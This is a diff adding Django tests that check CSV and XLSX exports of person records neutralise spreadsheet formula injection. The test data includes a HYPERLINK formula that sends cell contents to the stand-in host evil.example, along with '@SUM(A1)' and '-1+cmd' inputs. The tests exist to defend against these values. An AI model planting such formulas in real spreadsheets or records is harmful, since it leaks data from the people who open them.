@@ -107,3 +107,24 @@ def test_cli_export(tree, ram, tmp_path, capsys):
         call_command("export", "people", "--as", "9000000000", "--out", str(out))
     with pytest.raises(CommandError):
         call_command("export", "people", "--out", str(tmp_path / "missing" / "dir" / "x.csv"))
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example?"&A1,"click")'
+
+
+def test_exports_never_carry_a_live_formula(tree, ram, client):
+    Person.objects.filter(pk=ram.pk).update(name=HYPERLINK, relative_name="@SUM(A1)", name_latin="khandelwal")
+    client.force_login(tree.users["district_president"])
+    rows = read_csv(streamed(client.get("/people/export.csv", {"q": "khandelwal"})))
+    assert rows[1][1] == "'" + HYPERLINK and rows[1][3] == "'@SUM(A1)" and rows[1][7] == "98260 12345"
+    content = streamed(client.get("/people/export.xlsx", {"q": "khandelwal"}))
+    cells = list(load_workbook(io.BytesIO(content)).active.iter_rows())[1]
+    assert (cells[1].value, cells[1].data_type) == (HYPERLINK, "s")
+    assert b"<f>" not in __import__("zipfile").ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
+
+
+def test_a_persons_data_file_neutralizes_formulas(tree, ram, client):
+    Person.objects.filter(pk=ram.pk).update(occupation="-1+cmd")
+    client.force_login(tree.users["state_admin"])
+    text = client.get(f"/people/{ram.pk}/data.csv").content.decode("utf-8-sig")
+    assert "record,1,occupation,'-1+cmd" in text.splitlines()
